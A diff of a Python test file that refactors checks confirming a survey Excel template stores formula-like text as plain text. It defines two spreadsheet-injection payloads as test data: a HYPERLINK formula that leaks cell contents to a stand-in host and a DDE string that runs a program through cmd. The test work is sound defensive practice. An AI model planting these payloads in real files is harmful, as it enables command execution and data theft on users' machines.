@@ -1,17 +1,11 @@
 """The survey template writes text that looks like a formula as text, and reads it back unchanged."""
 
-import io
-import re
-import zipfile
-
-from openpyxl import load_workbook
-
-from committees.xlsx_write import looks_like_formula
 from surveys.excel import META_TOWN_NAME, Unit, read_upload, template_workbook
 from surveys.spec import META_SHEET
 from surveys.validation import normalize_row
 from tests.libreoffice import sheets_as_csv
 from tests.surveys.forms import FORMS, YEAR, form, rows
+from tests.xlsx import assert_no_formula, formula_like_cells
 
 HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
 DDE = "=cmd|' /C calc'!A0"
@@ -36,18 +30,8 @@ def template() -> bytes:
 
 def test_no_cell_of_the_template_is_a_formula():
     data = template()
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        for name in archive.namelist():
-            if name.startswith("xl/worksheets/"):
-                assert not re.search(r"<(\w+:)?f[ >]", archive.read(name).decode()), name
-    book = load_workbook(io.BytesIO(data))
-    cells = [
-        cell
-        for ws in book.worksheets
-        for row in ws.iter_rows()
-        for cell in row
-        if isinstance(cell.value, str) and looks_like_formula(cell.value)
-    ]
+    assert_no_formula(data)
+    cells = formula_like_cells(data)
     assert {c.parent.title for c in cells} >= {"表1 班子队伍", "表5B 品牌项目", "单位编码表", META_SHEET}
     assert all(c.data_type == "s" and c.quotePrefix for c in cells)
 
